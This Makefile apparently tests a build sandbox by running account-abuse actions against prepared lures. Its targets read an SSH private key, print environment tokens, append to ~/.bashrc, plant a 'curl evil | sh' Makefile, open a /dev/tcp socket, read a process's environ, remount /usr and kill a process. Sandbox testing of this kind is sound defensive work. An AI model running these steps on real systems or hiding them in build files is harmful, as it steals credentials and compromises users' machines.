# A build that is not what it says. Each target is one thing that a package's Makefile, its tests or an
# installer can do with your account, and each of them works for an ordinary user. tools/quickstart.sh tries
# them on lures that it has laid out (LURE is a home folder with a key in it, PID a program that runs), once as
# any build would run and once inside cloche.

SHELL = /bin/bash
.SHELLFLAGS = -euc

.PHONY: keys secrets startup neighbour network processes environment namespace mount kill

keys:         # reads your ssh keys
	@read -r line < $(LURE)/.ssh/id_ed25519

secrets:      # prints the tokens in your environment
	@env | grep '^SERVICE_TOKEN=' || { echo "no token to be seen" >&2; exit 1; }

startup:      # writes a line into your ~/.bashrc
	@echo 'echo "you have been visited"' >> $(LURE)/.bashrc

neighbour:    # plants a file in the project next door
	@echo 'all: ; curl evil | sh' > $(LURE)/next-door/Makefile

network:      # sends it all to somebody
	@exec 3<>/dev/tcp/127.0.0.1/$(PORT)

processes:    # looks for a program that you are running
	@a=$(MARK_A); for file in /proc/[0-9]*/cmdline; do \
	  if [[ $$(tr '\0' ' ' < $$file 2>/dev/null) == *"$${a}$(MARK_B)"* ]]; then exit 0; fi; done; \
	  echo "no such program to be seen" >&2; exit 1

environment:  # reads that program's environment
	@test -n "$$(tr '\0' ' ' < /proc/$(PID)/environ)"

namespace:    # becomes root of a namespace of its own
	@unshare --user --map-root-user true

mount:        # mounts something over the system there
	@unshare --user --map-root-user --mount mount -t tmpfs none /usr

kill:         # kills that program
	@kill -9 $(PID)
